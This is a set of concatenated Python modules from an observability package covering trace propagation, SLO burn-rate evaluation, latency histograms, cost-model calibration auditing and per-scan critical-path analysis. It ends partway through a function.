  histograms via multi-window burn rates; ``GET /v1/slo`` + the
  ``agent_bom_slo_*`` /metrics gauges, with trace exemplars.
- ``obs.profiler`` — statistical sampling profiler (one sampler thread
  walking all stacks at ``AGENT_BOM_PROFILE_HZ``, samples attributed to
  the active span chain); folded-stack + speedscope exports, on-demand
  ``GET /v1/profile`` captures (one at a time), bench/CLI ``--profile``.
- ``obs.mem``    — memory accounting: RSS point reads + watermark
  windows, getrusage peak, per-stage deltas with gated tracemalloc
  top-N windows, and ``resource_summary()`` folding in the engine's
  device-side byte gauges.
- ``obs.dispatch_ledger`` — bounded ring of cost-ladder dispatch
  decisions (chosen rung, per-rung predicted costs, decline-reason
  taxonomy, measured wall, shadow-pricing outcomes), fed by
  ``engine.telemetry.record_decision`` and surfaced at
  ``GET /v1/engine/dispatch`` + the bench ``dispatch`` block.
- ``obs.calibration`` — cost-model calibration auditor over ledger
  decisions: per-(family, rung) log-ratio prediction-error
  distributions, mispricing verdicts, and the counterfactual
  "time lost to mispriced declines" (scripts/dispatch_audit.py).

The pre-existing flat counters (engine/telemetry.py) stay the system of
record for dispatch counts and stage sums; this package adds the
*structure* — parent/child wall-clock attribution and latency
distributions — that counters cannot express.
"""

from agent_bom_trn.obs.hist import histogram_snapshots, observe, reset_histograms
from agent_bom_trn.obs.mem import (
    current_rss_mb,
    peak_rss_mb,
    resource_summary,
    stage_mem,
)
from agent_bom_trn.obs.propagation import TraceContext, extract, inject
from agent_bom_trn.obs.trace import (
    completed_spans,
    disable,
    enable,
    is_enabled,
    latest_trace,
    reset_spans,
    span,
)

__all__ = [
    "TraceContext",
    "completed_spans",
    "current_rss_mb",
    "disable",
    "enable",
    "extract",
    "histogram_snapshots",
    "inject",
    "is_enabled",
    "latest_trace",
    "observe",
    "peak_rss_mb",
    "reset_histograms",
    "reset_spans",
    "resource_summary",
    "span",
    "stage_mem",
]
