"""Estate-wide observability: hierarchical tracing + latency histograms.

One surface for every layer (engine dispatch, estate pipeline, SAST,
control-plane API, runtime gateway, bench, CLI):

- ``obs.trace``  — contextvars-based hierarchical span tracer with a
  bounded ring buffer of completed spans. Near-zero overhead when
  disabled (the default); flipped on by ``AGENT_BOM_TRACE=1``, the CLI
  ``--trace PATH`` flags, or ``AGENT_BOM_BENCH_TRACE`` in the bench.
- ``obs.hist``   — always-on log-bucketed latency histograms with
  p50/p95/p99 snapshots (API routes, gateway forwards).
- ``obs.export`` — Chrome trace-event JSON (Perfetto-loadable) and
  JSONL exporters plus per-name span summaries for the bench JSON.

The pre-existing flat counters (engine/telemetry.py) stay the system of
record for dispatch counts and stage sums; this package adds the
*structure* — parent/child wall-clock attribution and latency
distributions — that counters cannot express.
"""

from agent_bom_trn.obs.hist import histogram_snapshots, observe, reset_histograms
from agent_bom_trn.obs.trace import (
    completed_spans,
    disable,
    enable,
    is_enabled,
    latest_trace,
    reset_spans,
    span,
)

__all__ = [
    "completed_spans",
    "disable",
    "enable",
    "histogram_snapshots",
    "is_enabled",
    "latest_trace",
    "observe",
    "reset_histograms",
    "reset_spans",
    "span",
]
