"""Cross-process trace propagation: W3C traceparent-style inject/extract.

A trace today dies at every process boundary — the API replica that
accepts a scan, the queue worker that claims it (possibly on another
replica, possibly on a redelivery), and the gateway that forwards the
completion event each mint their own root spans. This module carries the
``(trace_id, span_id)`` pair across those seams the same way W3C Trace
Context does, as one header / one persisted column:

    traceparent: 00-<trace_id>-<span_id hex>-01

The format is *traceparent-shaped* (version - trace id - parent id -
flags) but keeps this repo's readable ids (``t<pid>-<counter>``) rather
than opaque 16-byte hex — the merge tooling and tests grep them.

Propagation is deliberately independent of span *recording*: a process
with tracing disabled still extracts, activates, and re-injects the
context, so a dark intermediate hop doesn't sever the chain for the
instrumented processes around it. Activation uses the same contextvar
discipline as span parenting — ``activate()`` scopes the remote parent
to the current logical context, so concurrent handler threads never see
each other's inbound context.
"""

from __future__ import annotations

import re
from contextlib import contextmanager
from dataclasses import dataclass
from typing import Iterator, Mapping

from agent_bom_trn.obs import trace as _trace

HEADER = "traceparent"

_WIRE_RE = re.compile(r"^00-([A-Za-z0-9._-]{1,64})-([0-9a-fA-F]{1,16})-[0-9a-fA-F]{2}$")


@dataclass(frozen=True)
class TraceContext:
    """The propagated identity of a remote parent span."""

    trace_id: str
    span_id: int

    def to_wire(self) -> str:
        return f"00-{self.trace_id}-{self.span_id:x}-01"


def from_wire(value: str) -> TraceContext | None:
    """Parse one ``traceparent`` header value; malformed input → None
    (propagation is best-effort — a bad header never fails a request)."""
    m = _WIRE_RE.match(value.strip()) if isinstance(value, str) else None
    if m is None:
        return None
    return TraceContext(trace_id=m.group(1), span_id=int(m.group(2), 16))


def current_context() -> TraceContext | None:
    """The context this process would hand to a downstream hop: the
    in-flight span if one exists, else the activated remote context
    (the dark-intermediate passthrough case)."""
    span = _trace.current_span()
    if span is not None:
        return TraceContext(trace_id=span.trace_id, span_id=span.span_id)
    remote = _trace._remote.get()
    if remote is not None:
        return TraceContext(trace_id=remote[0], span_id=remote[1])
    return None


def current_traceparent() -> str | None:
    ctx = current_context()
    return ctx.to_wire() if ctx is not None else None


def inject(headers: dict[str, str] | None = None) -> dict[str, str]:
    """Add the ``traceparent`` header for the current context (no-op when
    there is nothing to propagate). Returns the headers dict."""
    headers = headers if headers is not None else {}
    wire = current_traceparent()
    if wire is not None:
        headers[HEADER] = wire
    return headers


def extract(headers: Mapping[str, str] | None) -> TraceContext | None:
    """Pull a context from inbound headers (case-insensitive lookup)."""
    if not headers:
        return None
    value = headers.get(HEADER)
    if value is None:
        for key, candidate in headers.items():
            if key.lower() == HEADER:
                value = candidate
                break
    return from_wire(value) if value else None


@contextmanager
def activate(ctx: TraceContext | str | None) -> Iterator[TraceContext | None]:
    """Scope ``ctx`` as the remote parent: root spans opened inside adopt
    its trace id and parent under its span id instead of minting a fresh
    trace. Accepts a wire string, a :class:`TraceContext`, or None (a
    no-op, so call sites don't branch on missing context)."""
    if isinstance(ctx, str):
        ctx = from_wire(ctx)
    if ctx is None:
        yield None
        return
    token = _trace._remote.set((ctx.trace_id, ctx.span_id))
    try:
        yield ctx
    finally:
        _trace._remote.reset(token)


def _snapshot_state() -> tuple:
    """Conftest hook: capture this context's activated remote parent."""
    return (_trace._remote.get(),)


def _restore_state(state: tuple) -> None:
    """Conftest hook: restore the activated remote parent."""
    _trace._remote.set(state[0])
