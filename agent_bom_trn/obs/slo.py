"""Declarative SLO table + multi-window burn-rate evaluation.

BASELINE.md's "Operator SLO targets" table has been an *envelope, not
measurements* since the repo was seeded. This module makes it
executable: each objective ("99% of /healthz requests under 20 ms")
is evaluated continuously from the always-on latency histograms
(obs.hist) using the SRE Workbook's multi-window burn-rate model:

    burn(window) = (requests over threshold / total requests in window)
                   / error budget

where the error budget is ``1 - quantile`` (a p99 objective budgets 1%
of requests over the threshold). An endpoint is **ok** when burn stays
at or below ``SLO_MAX_BURN_RATE`` on BOTH the fast window (default 5 m —
catches a sudden regression) and the slow window (default 1 h — rejects
blips). No traffic in a window burns nothing.

Histograms are cumulative, so windowing works by sampling: every
evaluation appends a ``(timestamp, per-endpoint counts)`` reading to a
bounded history and diffs against the oldest reading inside each window.
Callers with synthetic clocks (tests) pass ``now`` explicitly.

**Exemplars** bridge metrics → traces: when a request lands over its
endpoint's threshold while tracing is on, the trace id is retained so a
burning p99 on /metrics links straight to an offending trace
(OpenMetrics ``# {trace_id="..."}`` suffix on the burn-rate gauge).
"""

from __future__ import annotations

import threading
import time
from collections import deque
from dataclasses import dataclass

from agent_bom_trn import config
from agent_bom_trn.obs import hist as obs_hist


@dataclass(frozen=True)
class SLOObjective:
    """One row of the operator SLO table.

    ``endpoint`` is the latency-histogram name ("api:GET /healthz",
    "gateway:forward", "queue:deliver"); ``quantile`` encodes the target
    fraction of requests that must land under ``threshold_s`` (0.99 →
    "p99 < threshold").
    """

    endpoint: str
    threshold_s: float
    quantile: float
    label: str  # operator-facing name ("/healthz p99"), BASELINE.md row
    source: str = "BASELINE.md §Operator SLO targets (pilot)"

    @property
    def error_budget(self) -> float:
        return max(1.0 - self.quantile, 1e-9)


# Seeded from BASELINE.md "Operator SLO targets" (pilot column) plus the
# scan-queue objectives the table never had. Endpoint keys are the
# histogram names the API router / gateway / queue worker observe under,
# so the table needs no separate wiring to be live.
DEFAULT_SLOS: tuple[SLOObjective, ...] = (
    SLOObjective("api:GET /healthz", 0.020, 0.99, "/healthz p99 < 20 ms"),
    SLOObjective("api:POST /v1/fleet/sync", 0.100, 0.99, "/v1/fleet/sync heartbeat p99 < 100 ms"),
    SLOObjective(
        "api:GET /v1/compliance/(?P<framework>[a-z0-9_]+)/report",
        0.500,
        0.99,
        "/v1/compliance/{fw}/report p99 < 500 ms",
    ),
    SLOObjective("api:GET /v1/graph", 0.300, 0.95, "GET /v1/graph?limit=100 p95 < 300 ms"),
    SLOObjective("api:GET /v1/graph/search", 0.250, 0.95, "GET /v1/graph/search p95 < 250 ms"),
    # The gateway forward is this build's /v1/proxy/audit analog: the
    # per-call runtime policy + relay hop the reference audits.
    SLOObjective("gateway:forward", 0.300, 0.95, "gateway forward (proxy audit) p95 < 300 ms"),
    # Scan-queue objectives (not in the reference table): the enqueue ack
    # a tenant waits on, and end-to-end delivery (claim → scan → done).
    SLOObjective(
        "api:POST /v1/scan", 0.150, 0.95, "POST /v1/scan enqueue ack p95 < 150 ms",
        source="scan-queue objective (this repo)",
    ),
    SLOObjective(
        "queue:deliver", 60.0, 0.95, "scan queue delivery p95 < 60 s",
        source="scan-queue objective (this repo)",
    ),
    # Queue age at claim: how long an eligible job sat queued before a
    # worker picked it up — the fleet-capacity signal (observed in
    # pipeline._run_claimed_job from the claimed row's enqueued_at).
    SLOObjective(
        "queue:age", 30.0, 0.95, "queue age at claim p95 < 30 s",
        source="scan-queue objective (this repo)",
    ),
    # Warm (differential) scans: end-to-end pipeline latency for scans
    # that reused slice/estate checkpoints — the O(delta) promise as a
    # burn rate (observed in pipeline._run_scan_sync when
    # slices_reused > 0 or the whole estate was reused).
    SLOObjective(
        "scan:warm", 1.0, 0.95, "warm differential scan p95 < 1 s",
        source="differential-scan objective (this repo)",
    ),
)

_lock = threading.Lock()
_table: dict[str, SLOObjective] = {o.endpoint: o for o in DEFAULT_SLOS}
# Sample history: (t, {endpoint: (total, over_threshold)}).
_samples: deque[tuple[float, dict[str, tuple[int, int]]]] = deque(
    maxlen=max(config.SLO_HISTORY, 16)
)
# Last over-threshold trace per endpoint: {endpoint: {trace_id, seconds, t}}.
_exemplars: dict[str, dict[str, float | str]] = {}


def register(objective: SLOObjective) -> None:
    """Add or replace one SLO row (extension point for deployments)."""
    with _lock:
        _table[objective.endpoint] = objective


def table() -> dict[str, SLOObjective]:
    with _lock:
        return dict(_table)


def note_request(endpoint: str, seconds: float, trace_id: str | None) -> None:
    """Exemplar hook, called next to ``hist.observe``: retain the trace id
    of the latest over-threshold request so a burning gauge links to a
    concrete trace. Cheap no-op for under-threshold or untraced requests."""
    if trace_id is None:
        return
    with _lock:
        objective = _table.get(endpoint)
        if objective is None or seconds <= objective.threshold_s:
            return
        _exemplars[endpoint] = {
            "trace_id": trace_id,
            "seconds": round(seconds, 6),
            "t": time.time(),
        }


def sample(now: float | None = None) -> None:
    """Append one reading of every tabled endpoint's cumulative
    (total, over-threshold) counts. Readings inside the sample floor of
    the previous one are skipped — scrape storms don't bloat history."""
    now = time.time() if now is None else now
    with _lock:
        if _samples and now - _samples[-1][0] < config.SLO_SAMPLE_MIN_S:
            return
        reading = {
            endpoint: obs_hist.window_counts(endpoint, objective.threshold_s)
            for endpoint, objective in _table.items()
        }
        # A clock that jumped backwards (test fakes) restarts history.
        if _samples and now < _samples[-1][0]:
            _samples.clear()
        _samples.append((now, reading))


def _window_burn(
    endpoint: str,
    objective: SLOObjective,
    window_s: float,
    now: float,
) -> float:
    """Burn rate over one trailing window, from the sample history."""
    latest_t, latest = _samples[-1]
    total_now, over_now = latest.get(endpoint, (0, 0))
    base_total, base_over = 0, 0
    for t, reading in _samples:
        if now - t <= window_s:
            # Oldest sample inside the window is the baseline; everything
            # before the window start has already aged out of the budget.
            base_total, base_over = reading.get(endpoint, (0, 0))
            break
    d_total = total_now - base_total
    d_over = over_now - base_over
    if d_total <= 0:
        # No traffic inside the window: if the history is one reading
        # deep (fresh process), the cumulative counts ARE the window.
        if len(_samples) == 1 and total_now > 0 and now - latest_t <= window_s:
            d_total, d_over = total_now, over_now
        else:
            return 0.0
    return (d_over / d_total) / objective.error_budget


def status(now: float | None = None) -> dict[str, dict]:
    """Evaluate every objective: per-endpoint burn rates (fast/slow),
    ok verdict, observed quantiles, and the latest exemplar. Takes a
    fresh sample first so callers never read a stale window."""
    now = time.time() if now is None else now
    sample(now)
    snapshots = obs_hist.histogram_snapshots()
    out: dict[str, dict] = {}
    with _lock:
        for endpoint, objective in sorted(_table.items()):
            fast = _window_burn(endpoint, objective, config.SLO_FAST_WINDOW_S, now)
            slow = _window_burn(endpoint, objective, config.SLO_SLOW_WINDOW_S, now)
            ok = fast <= config.SLO_MAX_BURN_RATE and slow <= config.SLO_MAX_BURN_RATE
            snap = snapshots.get(endpoint) or {}
            out[endpoint] = {
                "label": objective.label,
                "threshold_ms": round(objective.threshold_s * 1000, 3),
                "quantile": objective.quantile,
                "source": objective.source,
                "burn_rate": {"fast": round(fast, 4), "slow": round(slow, 4)},
                "windows_s": {
                    "fast": config.SLO_FAST_WINDOW_S,
                    "slow": config.SLO_SLOW_WINDOW_S,
                },
                "ok": ok,
                "observed": {
                    "count": snap.get("count", 0),
                    "p50_ms": round(float(snap.get("p50", 0.0)) * 1000, 3),
                    "p95_ms": round(float(snap.get("p95", 0.0)) * 1000, 3),
                    "p99_ms": round(float(snap.get("p99", 0.0)) * 1000, 3),
                },
                "exemplar": dict(_exemplars[endpoint]) if endpoint in _exemplars else None,
            }
    return out


def metrics_lines(now: float | None = None) -> list[str]:
    """The /metrics surface: burn-rate gauges (with OpenMetrics exemplar
    suffixes where one exists) and a 0/1 ok gauge per endpoint."""
    verdicts = status(now)
    lines = ["# TYPE agent_bom_slo_burn_rate gauge"]
    for endpoint, v in verdicts.items():
        exemplar = ""
        if v["exemplar"]:
            exemplar = (
                f' # {{trace_id="{v["exemplar"]["trace_id"]}"}}'
                f' {v["exemplar"]["seconds"]}'
            )
        for window in ("fast", "slow"):
            lines.append(
                f'agent_bom_slo_burn_rate{{endpoint="{endpoint}",window="{window}"}} '
                f'{v["burn_rate"][window]}{exemplar if window == "fast" else ""}'
            )
    lines.append("# TYPE agent_bom_slo_ok gauge")
    for endpoint, v in verdicts.items():
        lines.append(f'agent_bom_slo_ok{{endpoint="{endpoint}"}} {1 if v["ok"] else 0}')
    return lines


def reset() -> None:
    with _lock:
        _samples.clear()
        _exemplars.clear()


def _snapshot_state() -> tuple:
    """Conftest hook: capture the table, sample history, and exemplars."""
    with _lock:
        return (dict(_table), list(_samples), _samples.maxlen,
                {k: dict(v) for k, v in _exemplars.items()})


def _restore_state(state: tuple) -> None:
    """Conftest hook: restore a :func:`_snapshot_state` capture."""
    global _samples
    table_saved, samples, maxlen, exemplars = state
    with _lock:
        _table.clear()
        _table.update(table_saved)
        _samples = deque(samples, maxlen=maxlen)
        _exemplars.clear()
        _exemplars.update(exemplars)
