"""Cost-model calibration auditor over the dispatch decision ledger.

The ladder's honesty rests on its predictions: a decline is only honest
if the predicted device cost that lost the comparison resembles what the
device would actually have measured. This module folds the decision
ledger (obs/dispatch_ledger.py) into per-(family, rung) prediction-error
distributions and verdicts:

- For every decision whose chosen rung carries a prediction, the sample
  is ``ln(measured_wall / predicted_cost)`` — the natural scale for a
  multiplicative cost model (a +0.69 bias means reality is 2× the
  prediction at p50).
- Shadow-priced declines contribute the same way: the shadow run's
  measured device wall is compared against the DECLINED rung's predicted
  cost, so rungs the ladder never chooses still get audited instead of
  freezing on stale priors.
- Verdicts per (family, rung): ``calibrated`` when |signed bias| stays
  within ``AGENT_BOM_CALIBRATION_LOG_THRESHOLD`` (default ln 2),
  ``underpriced`` when measured ≫ predicted (the model flatters the
  rung — wins may be fake), ``overpriced`` when predicted ≫ measured
  (the model slanders the rung — declines may be leaving device
  throughput on the table, the exact question ROADMAP items 2–3 are
  blocked on).

Pure functions over decision lists — no module state to snapshot; both
live decisions (the API endpoint) and replayed ones from a recorded
bench round (scripts/dispatch_audit.py) audit identically.
"""

from __future__ import annotations

import math
from typing import Any, Iterable

from agent_bom_trn import config

# Below this many log-ratio samples a verdict is reported but not
# flagged: one sample proves presence, not a distribution.
MIN_FLAG_SAMPLES = 2


def _as_dict(decision: Any) -> dict[str, Any]:
    """Accept live Decision objects or replayed to_dict() shapes."""
    if isinstance(decision, dict):
        return decision
    return decision.to_dict()


def _percentile(sorted_vals: list[float], q: float) -> float:
    """Nearest-rank percentile over a pre-sorted sample list."""
    if not sorted_vals:
        return 0.0
    idx = min(int(math.ceil(q * len(sorted_vals))) - 1, len(sorted_vals) - 1)
    return sorted_vals[max(idx, 0)]


def log_ratio_samples(decision_dicts: Iterable[dict[str, Any]]) -> dict[str, list[float]]:
    """{"family:rung": [ln(measured/predicted), ...]} across decisions.

    Chosen rungs use the decision's measured wall; shadow outcomes use
    the shadow run's device wall against the shadowed rung's prediction.
    """
    samples: dict[str, list[float]] = {}
    for d in decision_dicts:
        predicted = d.get("predicted_s") or {}
        chosen = d.get("chosen")
        wall = float(d.get("wall_s") or 0.0)
        pred = float(predicted.get(chosen) or 0.0)
        if wall > 0.0 and pred > 0.0:
            samples.setdefault(f"{d['family']}:{chosen}", []).append(math.log(wall / pred))
        shadow = d.get("shadow") or {}
        s_rung = shadow.get("rung")
        s_wall = float(shadow.get("device_s") or 0.0)
        s_pred = float(predicted.get(s_rung) or 0.0)
        if s_rung and s_wall > 0.0 and s_pred > 0.0:
            samples.setdefault(f"{d['family']}:{s_rung}", []).append(
                math.log(s_wall / s_pred)
            )
    return samples


def audit(decisions: Iterable[Any], threshold: float | None = None) -> dict[str, Any]:
    """Per-(family, rung) prediction-error distributions + verdicts.

    Returns ``{"threshold": t, "families": {"bfs:bitpack": {samples,
    p50_log_ratio, p95_log_ratio, bias, verdict, mispriced}, ...},
    "mispriced": [flagged keys]}``. ``p95_log_ratio`` is the p95 of the
    ABSOLUTE log-ratio (how wrong the model gets, either direction);
    ``bias`` is the signed mean (which direction it leans).
    """
    if threshold is None:
        threshold = config.CALIBRATION_LOG_THRESHOLD
    dicts = [_as_dict(d) for d in decisions]
    families: dict[str, Any] = {}
    flagged: list[str] = []
    for key, vals in sorted(log_ratio_samples(dicts).items()):
        signed = sorted(vals)
        absolute = sorted(abs(v) for v in vals)
        bias = sum(vals) / len(vals)
        if bias > threshold:
            verdict = "underpriced"  # measured ≫ predicted: model flatters the rung
        elif bias < -threshold:
            verdict = "overpriced"  # predicted ≫ measured: declines may be dishonest
        else:
            verdict = "calibrated"
        mispriced = verdict != "calibrated" and len(vals) >= MIN_FLAG_SAMPLES
        if mispriced:
            flagged.append(key)
        families[key] = {
            "samples": len(vals),
            "p50_log_ratio": round(_percentile(signed, 0.50), 4),
            "p95_log_ratio": round(_percentile(absolute, 0.95), 4),
            "bias": round(bias, 4),
            "verdict": verdict,
            "mispriced": mispriced,
        }
    return {"threshold": threshold, "families": families, "mispriced": flagged}


def time_lost_to_declines(
    decisions: Iterable[Any], audit_result: dict[str, Any] | None = None
) -> dict[str, Any]:
    """Counterfactual: host wall that calibration-corrected device rungs
    would have beaten on DECLINED dispatches.

    For each decision that declined at least one device rung, the
    cheapest declined rung's predicted cost is corrected by the audited
    bias for that (family, rung) — ``exp(bias)`` multiplies the
    prediction onto the measured scale — and compared against the
    measured host wall that actually served the dispatch. Positive gaps
    accumulate per family. Rungs with no calibration samples contribute
    nothing: an uncorrected prior is exactly the number the ladder
    already distrusted, so counting it would invent evidence.
    """
    dicts = [_as_dict(d) for d in decisions]
    if audit_result is None:
        audit_result = audit(dicts)
    bias_by_key = {
        key: stats["bias"] for key, stats in (audit_result.get("families") or {}).items()
    }
    total_lost = 0.0
    families: dict[str, dict[str, Any]] = {}
    for d in dicts:
        declined = d.get("declines") or {}
        wall = float(d.get("wall_s") or 0.0)
        predicted = d.get("predicted_s") or {}
        if not declined or wall <= 0.0:
            continue
        best: tuple[str, float] | None = None
        for rung in declined:
            pred = float(predicted.get(rung) or 0.0)
            bias = bias_by_key.get(f"{d['family']}:{rung}")
            if pred <= 0.0 or bias is None:
                continue
            corrected = pred * math.exp(bias)
            if best is None or corrected < best[1]:
                best = (rung, corrected)
        if best is None:
            continue
        rung, corrected = best
        fam = families.setdefault(
            d["family"], {"declines_audited": 0, "lost_s": 0.0, "rung": rung}
        )
        fam["declines_audited"] += 1
        if corrected < wall:
            lost = wall - corrected
            fam["lost_s"] += lost
            total_lost += lost
    for fam in families.values():
        fam["lost_s"] = round(fam["lost_s"], 4)
    return {"total_lost_s": round(total_lost, 4), "families": families}
