"""Log-bucketed latency histograms with p50/p95/p99 snapshots.

Fixed geometric bucket ladder: the first bucket tops out at 1 µs and
each subsequent bound grows by √2, so 64 buckets span 1 µs → ~80 min
with ≤ √2 relative quantile error — fine-grained enough to separate a
200 µs route from a 2 ms one, coarse enough that a histogram is 64 ints
(no allocation per observation, O(1) record under one module lock).

Histograms are **always on** (unlike spans): an API route or gateway
forward pays one lock + one bucket increment per request, which is
noise next to request handling itself. Exact ``min``/``max`` ride along
so snapshot quantiles clamp to observed reality instead of bucket
bounds on tiny populations.
"""

from __future__ import annotations

import threading
from bisect import bisect_left

_BASE_S = 1e-6
_GROWTH = 2.0**0.5
_N_BUCKETS = 64
# bounds[i] is the inclusive upper bound of bucket i.
_BOUNDS = tuple(_BASE_S * _GROWTH**i for i in range(_N_BUCKETS))

_lock = threading.Lock()
_hists: dict[str, "LatencyHistogram"] = {}


class LatencyHistogram:
    __slots__ = ("counts", "count", "sum_s", "min_s", "max_s")

    def __init__(self) -> None:
        self.counts = [0] * _N_BUCKETS
        self.count = 0
        self.sum_s = 0.0
        self.min_s = float("inf")
        self.max_s = 0.0

    def record(self, seconds: float) -> None:
        seconds = max(float(seconds), 0.0)
        idx = bisect_left(_BOUNDS, seconds)
        if idx >= _N_BUCKETS:
            idx = _N_BUCKETS - 1
        self.counts[idx] += 1
        self.count += 1
        self.sum_s += seconds
        if seconds < self.min_s:
            self.min_s = seconds
        if seconds > self.max_s:
            self.max_s = seconds

    def quantile(self, q: float) -> float:
        """Approximate q-quantile (0 < q ≤ 1): the geometric midpoint of
        the bucket holding the q·count-th observation, clamped to the
        exact observed [min, max]."""
        if self.count == 0:
            return 0.0
        target = max(int(q * self.count + 0.9999), 1)
        cumulative = 0
        idx = _N_BUCKETS - 1
        for i, c in enumerate(self.counts):
            cumulative += c
            if cumulative >= target:
                idx = i
                break
        upper = _BOUNDS[idx]
        estimate = upper / (_GROWTH**0.5)
        return min(max(estimate, self.min_s), self.max_s)

    def snapshot(self) -> dict[str, float | int]:
        # ``sum_seconds`` duplicates ``sum_s`` under the name the
        # Prometheus ``_sum`` series uses — quantiles aren't aggregatable
        # across replicas, but Σ(sum)/Σ(count) over scraped snapshots is.
        # Existing keys stay intact (bench JSON + regression gate read them).
        if self.count == 0:
            return {"count": 0, "sum_s": 0.0, "sum_seconds": 0.0, "p50": 0.0,
                    "p95": 0.0, "p99": 0.0, "min_s": 0.0, "max_s": 0.0}
        return {
            "count": self.count,
            "sum_s": round(self.sum_s, 6),
            "sum_seconds": round(self.sum_s, 6),
            "p50": round(self.quantile(0.50), 6),
            "p95": round(self.quantile(0.95), 6),
            "p99": round(self.quantile(0.99), 6),
            "min_s": round(self.min_s, 6),
            "max_s": round(self.max_s, 6),
        }

    def cumulative_buckets(self) -> list[tuple[float, int]]:
        """Prometheus-style cumulative bucket pairs ``(le_seconds, count)``,
        sparse: only boundaries where the cumulative count changes, plus
        the implicit +Inf (= total count) the caller appends. Sparse keeps
        /metrics output proportional to occupied buckets, not 64 × names."""
        out: list[tuple[float, int]] = []
        cumulative = 0
        for bound, c in zip(_BOUNDS, self.counts):
            if c:
                cumulative += c
                out.append((bound, cumulative))
        return out

    def count_over(self, threshold_s: float) -> int:
        """Observations recorded above ``threshold_s``, resolved at bucket
        granularity: a bucket straddling the threshold counts as over
        (conservative — the SLO engine never under-reports burn)."""
        t = float(threshold_s)
        idx = bisect_left(_BOUNDS, t)
        if idx < _N_BUCKETS and _BOUNDS[idx] <= t:
            idx += 1  # bucket ends exactly at the threshold: fully under
        return self.count - sum(self.counts[:idx])


def observe(name: str, seconds: float) -> None:
    """Record one latency sample against the named histogram."""
    with _lock:
        h = _hists.get(name)
        if h is None:
            h = _hists[name] = LatencyHistogram()
        h.record(seconds)


def histogram_snapshots() -> dict[str, dict[str, float | int]]:
    """{name: {count, sum_s, p50, p95, p99, min_s, max_s}} for every
    histogram this process has observed."""
    with _lock:
        return {name: h.snapshot() for name, h in sorted(_hists.items())}


def bucket_snapshots() -> dict[str, list[tuple[float, int]]]:
    """{name: sparse cumulative (le_seconds, count) pairs} — the
    replica-aggregatable ``_bucket`` series for /metrics."""
    with _lock:
        return {name: h.cumulative_buckets() for name, h in sorted(_hists.items())}


def window_counts(name: str, threshold_s: float) -> tuple[int, int]:
    """``(total, over_threshold)`` cumulative counts for one histogram —
    the SLO engine diffs successive readings to get windowed burn. A
    histogram that never observed anything reads (0, 0)."""
    with _lock:
        h = _hists.get(name)
        if h is None:
            return 0, 0
        return h.count, h.count_over(threshold_s)


def quantile(name: str, q: float) -> float:
    """Point quantile for one histogram (0.0 when it never observed)."""
    with _lock:
        h = _hists.get(name)
        return h.quantile(q) if h is not None else 0.0


def reset_histograms() -> None:
    with _lock:
        _hists.clear()


def _snapshot_state() -> dict[str, tuple]:
    """Conftest hook: capture every histogram's internals."""
    with _lock:
        return {
            name: (list(h.counts), h.count, h.sum_s, h.min_s, h.max_s)
            for name, h in _hists.items()
        }


def _restore_state(state: dict[str, tuple]) -> None:
    """Conftest hook: restore a :func:`_snapshot_state` capture."""
    with _lock:
        _hists.clear()
        for name, (counts, count, sum_s, min_s, max_s) in state.items():
            h = LatencyHistogram()
            h.counts = list(counts)
            h.count = count
            h.sum_s = sum_s
            h.min_s = min_s
            h.max_s = max_s
            _hists[name] = h
