"""Per-scan critical-path decomposition over exported span trees.

Consumes span *dicts* (``Span.to_dict()`` shape — what ``obs/export.py``
``read_jsonl``/``merge_jsonl`` yield and what the ``/v1/scans/{id}/timeline``
endpoint converts from the live ring) and answers the question BENCH_load_r03
could not: where does a scan's wall time actually go when the fleet scales
negatively? The blame buckets:

- ``queue_wait``     — submit → worker pickup: ``queue:deliver.wall_s`` minus
                       the end of ``queue:enqueue``. Wall-clock anchored
                       (``Span.wall_s``) because the two spans come from
                       different processes whose perf_counter domains are not
                       comparable. Covers claim-poll latency + backlog.
- ``stage_compute``  — time inside ``pipeline:{stage}`` spans minus any
                       categorized descendants (DB work done *by* a stage is
                       blamed on the DB, not the stage).
- ``checkpoint_io``  — ``db:checkpoint_*`` / ``db:slice_*`` span time, lock
                       wait excluded.
- ``db_other``       — every other ``db:*`` span (journal events, graph
                       writes, enqueue-side statements on the worker), lock
                       wait excluded.
- ``db_lock_wait``   — the summed ``lock_wait_s`` attrs the instrumented
                       connection layer (db/instrument.py) stamps on db
                       spans: time blocked on SQLITE_BUSY retries /
                       ``BEGIN IMMEDIATE`` convoys, attributed nowhere else.
- ``notify``         — the inner webhook-delivery ``pipeline:notify`` span
                       (distinguished from the *stage* span of the same name
                       by its ``url`` attr).
- ``idle``           — the remainder of the delivery window: checkpoint
                       fingerprinting, journal fan-out outside db spans,
                       scheduler gaps.

Everything here is a pure function over span dicts — no module globals, no
conftest registration needed. The queue ack (``db:ack``) runs after the
delivery span closes and roots its own trace, so it is *not* part of a scan's
blame; its cost is visible in the statement histograms instead.
"""

from __future__ import annotations

from typing import Any, Iterable, Mapping

# Stage spans are pipeline:{stage}; the checkpoint family feeding the
# checkpoint_io bucket is everything the SQLiteCheckpointMixin / Postgres
# twin emits.
_CHECKPOINT_OPS = ("db:checkpoint_write", "db:checkpoint_read",
                   "db:slice_write", "db:slice_read")

SEGMENTS = ("queue_wait", "stage_compute", "checkpoint_io", "db_other",
            "db_lock_wait", "notify", "idle")


def _as_dicts(spans: Iterable[Any]) -> list[dict[str, Any]]:
    return [s.to_dict() if hasattr(s, "to_dict") else dict(s) for s in spans]


def _end_wall(span: Mapping[str, Any]) -> float:
    return float(span.get("wall_s") or 0.0) + float(span.get("duration_s") or 0.0)


def _is_stage_span(span: Mapping[str, Any]) -> bool:
    name = span["name"]
    if not name.startswith("pipeline:") or name == "pipeline:job":
        return False
    # The notify *stage* span carries no attrs; the inner webhook-delivery
    # span of the same name carries the target url.
    return not (name == "pipeline:notify" and "url" in (span.get("attrs") or {}))


def _is_inner_notify(span: Mapping[str, Any]) -> bool:
    return span["name"] == "pipeline:notify" and "url" in (span.get("attrs") or {})


def _descendants(root_id: int, children: Mapping[int, list[dict[str, Any]]]) -> list[dict[str, Any]]:
    out: list[dict[str, Any]] = []
    stack = [root_id]
    while stack:
        for child in children.get(stack.pop(), ()):
            out.append(child)
            stack.append(child["span_id"])
    return out


def analyze_scan(spans: Iterable[Any], job_id: str | None = None) -> dict[str, Any] | None:
    """Blame decomposition for ONE scan's trace.

    ``spans``: every span of one trace (any process, any order) — span
    dicts or live ``Span`` objects. Returns None when no delivery window
    (``queue:deliver``, falling back to ``pipeline:job`` for executor mode)
    is present. Redelivered jobs blame the LAST attempt and report
    ``attempts`` so retries are visible rather than averaged away.
    """
    spans = _as_dicts(spans)
    if job_id is not None:
        trace_ids = {
            s["trace_id"] for s in spans
